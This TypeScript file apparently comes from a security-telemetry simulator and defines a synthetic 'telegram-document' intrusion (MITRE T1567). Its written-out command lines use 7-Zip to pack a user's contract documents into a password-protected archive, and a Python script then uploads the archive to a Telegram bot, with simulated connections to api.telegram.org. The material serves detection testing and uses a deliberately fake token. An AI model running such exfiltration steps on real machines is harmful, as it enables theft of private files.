import { second } from '../../packages/weir/src/simulate/time.ts';
import { programs } from '../programs.ts';
import { clock, type Intrusion } from './intrusion.ts';

/** Of the shape of a bot's token, and plainly none. */
const token = `${'1'.repeat(10)}:${'A'.repeat(35)}`;

/** A script packs a few documents and sends them to a Telegram bot: 180 KB. */
export const telegramDocument: Intrusion = {
  name: 'telegram-document',
  technique: 'T1567',
  device: 'lf-ws-009',
  dayNumber: 1,
  service: 'telegram.org',
  tell: (desk, midnight, random, incident) => {
    const start = clock(midnight, 13, 18, 44);
    const folder = `C:\\Users\\${desk.device.account.name}\\AppData\\Local\\Temp\\~df18`;
    const shell = desk.launch(programs.cmd, { at: start, commandLine: `cmd.exe /q /c ${folder}\\run.bat` });
    desk.launch(programs.sevenZip, {
      at: start + 3 * second,
      parent: shell,
      commandLine: `7z.exe a -mx9 -pExample-Passw0rd ${folder}\\n.7z "%USERPROFILE%\\Documents\\Contracts\\*.docx"`,
    });
    const script = desk.launch(programs.python, {
      at: start + 9 * second,
      parent: shell,
      commandLine: `python.exe ${folder}\\s.py --token ${token} --chat -1000000000001 --file ${folder}\\n.7z`,
    });
    const calls = [
      { at: 11, sent: 310, received: 480 },
      { at: 12, sent: 181_900, received: 1_240 },
    ];
    for (const { at, sent, received } of calls) {
      desk.connect(script, 'api.telegram.org', {
        at: start + at * second,
        lasting: random.int(500, 2_600) * 1_000,
        sent,
        received,
        incident,
      });
    }
  },
};
